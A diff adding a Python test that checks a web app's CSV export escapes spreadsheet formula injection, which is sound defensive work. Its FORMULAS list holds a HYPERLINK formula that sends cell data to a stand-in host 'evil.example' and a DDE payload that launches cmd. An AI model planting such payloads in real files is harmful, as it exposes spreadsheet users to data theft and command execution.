@@ -188,3 +188,38 @@ def test_the_job_partials_render_without_inline_scripts(app, make_user, template
     assert expected in html and "Nothing started yet." in html
     assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/js/background.js" defer>']
     assert "csrf_token" in html
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+FORMULAS += ["+1+1", "-2+3", "\tlead", "\rlead"]
+
+
+def test_a_csv_export_never_starts_a_cell_with_a_formula_and_ndjson_is_unchanged(
+    app, make_tracked_app, tmp_path
+):
+    tracked = make_tracked_app()
+    for text in FORMULAS:
+        stored_events_with(app, tracked["id"], event_name=text, client_event_id=text[:64])
+    found = {}
+    with app.app_context():
+        for fmt in ("csv", "ndjson"):
+            job = exports.start_export(
+                uuid.UUID(tracked["id"]), NOW - timedelta(hours=1), NOW + timedelta(hours=1), fmt
+            )
+            db.session.commit()
+            exports.run_export(job.id, str(tmp_path), chunk_rows=100)
+            with (tmp_path / f"{job.id}.{fmt}").open(encoding="utf-8", newline="") as file:
+                found[fmt] = file.read()
+    rows = list(csv.reader(io.StringIO(found["csv"], newline="")))[1:]
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    names = [json.loads(line)["event_name"] for line in found["ndjson"].splitlines()]
+    assert sorted(row[2] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert sorted(names) == sorted(FORMULAS)  # NDJSON keeps the text as sent
+
+
+def stored_events_with(app, app_id: str, **fields) -> None:
+    with app.app_context():
+        store_events([make_record(app_id, received_at=NOW.isoformat(), **fields)])
